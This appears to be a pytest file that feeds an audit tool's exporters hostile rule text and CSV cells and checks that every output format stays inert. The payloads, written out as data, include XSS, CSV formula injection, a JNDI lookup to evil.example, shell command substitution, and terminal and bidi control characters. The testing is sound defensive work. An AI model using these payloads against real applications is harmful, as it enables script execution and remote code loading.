"""A hostile export under a hostile rule, from data to every format: inert to a browser and to the formats' parsers."""

from __future__ import annotations

import csv
import json
import re
from collections.abc import Iterator
from pathlib import Path
from xml.etree import ElementTree

import pytest
from jsonschema import Draft202012Validator
from markdown_it import MarkdownIt

from tests.chromium import Browser, program
from tests.cli.conftest import Auditor, auditor
from tests.writers.test_selfcheck import EVERY
from tests.writers.test_worklist_xlsx import sheets

__all__ = ["auditor"]
DATA = Path(__file__).parents[1] / "writers" / "data"
SCRIPT = "<script>alert(1)</script><img src=https://evil.example/x onerror=alert(2)>"
RULE = """
id: hostile-rule
pack: hostile
area: jurisdiction
version: 2026.11
type: automatic
title: "</script><script>alert('title')</script> {{7*7}} [x](https://evil.example) =1+1"
relation: subject
violation: country is missing
severity: critical
population: "people <b onmouseover=alert(1)>"
why: |
  </style><svg onload=alert(1)> ::error::x %0A $(touch /tmp/x) \u202e
remediation: [CORRECT]
closes_with: "`|` ]]> <!-- &#0; -->"
examples:
  violation:
    - subject: {key: 1}
  fine:
    - subject: {key: 1, country: DE}
  undetermined: never
"""


@pytest.fixture(scope="module")
def export(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Contacts whose cells, headings and file name try to do harm; one cell is a megabyte."""
    folder = tmp_path_factory.mktemp("hostile") / "exports & <b>"
    folder.mkdir()
    rows = [
        ["id", "first_name", "last_name", "email", "country", "\x1b[31mnotes=1+1", SCRIPT],
        ["=cmd|'/c calc'!A1", "=1+1", "@SUM(A1)", "a@example.org", "", SCRIPT, "x" * 1_000_000],
        [
            '"><svg onload=alert(3)>',
            "\x1b]0;evil\x07",
            "\u202edcba\u2066",
            "b@example.org",
            "",
            "::error::evil",
            "{{7*7}}",
        ],
        ["+1\t", "javascript:alert(4)", "]]><x/>", "c@example.org", "DE", "${jndi:ldap://evil.example/a}", "`id`"],
    ]
    with (folder / "contacts<script>alert(5)<!--.csv").open("w", encoding="utf-8", newline="") as stream:
        csv.writer(stream).writerows(rows)
    return folder


@pytest.fixture
def written(auditor: Auditor, export: Path, tmp_path: Path) -> Iterator[dict[str, Path]]:
    pack = tmp_path / "rules" / "hostile"
    pack.mkdir(parents=True)
    (pack / "pack.yaml").write_text(
        'id: hostile\ntitle: "<img src=x onerror=alert(6)>"\nrests_on: "<x>"\n', encoding="utf-8"
    )
    (pack / "hostile-rule.yaml").write_text(RULE.replace("\\u202e", "\u202e"), encoding="utf-8")
    formats = [part for name in EVERY for part in ("--format", name)]
    run = auditor("audit", export, "--rules", tmp_path / "rules", "--out", tmp_path / "out", *formats)
    assert run.code == 1, run.err
    assert not set("\x1b\x07\u202e\u2066") & set(run.out + run.err)
    yield {path.name: path for path in (tmp_path / "out").iterdir()}


def test_every_format_of_a_hostile_audit_is_read_by_its_parser_and_nothing_in_it_acts(written: dict[str, Path]) -> None:
    texts = {name: path.read_text(encoding="utf-8") for name, path in written.items() if path.suffix != ".xlsx"}
    assert len(written) == len(EVERY)
    for name, text in texts.items():
        assert len(text) < 2_000_000 and "x" * 1_000 not in text, name
        assert not {c for c in text if (ord(c) < 32 and c not in "\n\r") or 0x7F <= ord(c) < 0xA0}, name
        assert not set("\u202e\u2066") & set(text), name
    audit = json.loads(texts["audit.json"])
    schema = Path(__file__).parents[2] / "auditor" / "schemas" / "audit.schema.json"
    Draft202012Validator(json.loads(schema.read_text(encoding="utf-8"))).validate(audit)
    assert next(f for f in audit["findings"] if f["rule"] == "hostile-rule")["counts"]["violations"] == 2
    sarif = json.loads((DATA / "sarif-2.1.0.schema.json").read_text(encoding="utf-8"))
    Draft202012Validator(sarif).validate(json.loads(texts["audit.sarif"]))
    tags = {element.tag for element in ElementTree.fromstring(texts["audit.xml"]).iter()}
    assert tags <= {"testsuites", "testsuite", "properties", "property", "testcase", "failure", "error", "skipped"}
    assert all(re.match(r"::(error|warning|notice) [^\r\n]*\Z", line) for line in texts["annotations.txt"].splitlines())
    rendered = str(MarkdownIt("gfm-like", {"linkify": False, "html": True}).render(texts["summary.md"]))
    assert not re.search(r"<(?:script|img|svg|a|b)\b", rendered)
    cells = [cell for row in csv.reader(texts["worklist.csv"].splitlines()) for cell in row]
    cells += [cell for rows in sheets(written["worklist.xlsx"]).values() for row in rows for cell in row]
    assert len([cell for cell in cells if "hostile-rule" in cell]) >= 5
    csv_cells = cells[: len(cells) - sum(len(r) for rows in sheets(written["worklist.xlsx"]).values() for r in rows)]
    assert not [cell for cell in csv_cells if cell.startswith(("=", "+", "-", "@"))]
    for name in ("a@example.org", "b@example.org", "c@example.org"):
        assert not any(name in text for text in texts.values())


def test_the_report_of_a_hostile_audit_runs_nothing_in_a_browser(written: dict[str, Path]) -> None:
    path = program()
    if path is None:
        pytest.skip("Chromium is not installed; the report was checked by the parser only.")
    with Browser(path) as browser:
        page = browser.page().open(written["report.html"], "#F-01")
        page.run("document.querySelectorAll('details').forEach((each) => { each.open = true; })")
        assert (page.complaints, page.requests) == ([], [])
        assert page.run("document.querySelectorAll('img, iframe, object, embed, [src], [style], [onload]').length") == 0
        assert page.run("document.scripts.length") == 1
        assert "alert('title')" in page.run("document.querySelector('#list').textContent")
        assert page.run("document.documentElement.scrollWidth <= innerWidth")
